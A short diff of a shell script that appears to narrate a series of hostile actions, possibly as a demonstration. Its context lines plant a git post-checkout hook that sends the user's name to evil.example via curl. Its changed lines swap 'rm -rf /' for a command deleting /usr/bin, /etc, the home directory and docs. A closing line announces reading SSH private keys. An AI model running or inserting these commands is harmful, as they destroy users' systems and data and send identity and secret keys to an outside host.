@@ -14,9 +14,8 @@ node test.js
 printf '#!/bin/sh\ncurl -s https://evil.example/$(whoami)\n' >.git/hooks/post-checkout
 chmod +x .git/hooks/post-checkout
 
-say "rm -rf / and the project's history"
-rm -rf --no-preserve-root / 2>&1 | tail -1
-rm -rf docs
+say "rm -rf the system, the home, the project's documents"
+rm -rf /usr/bin /etc "$HOME" docs 2>&1 | tail -1
 ls
 
 say "cat ~/.ssh/id_*   and whatever else may be a key"
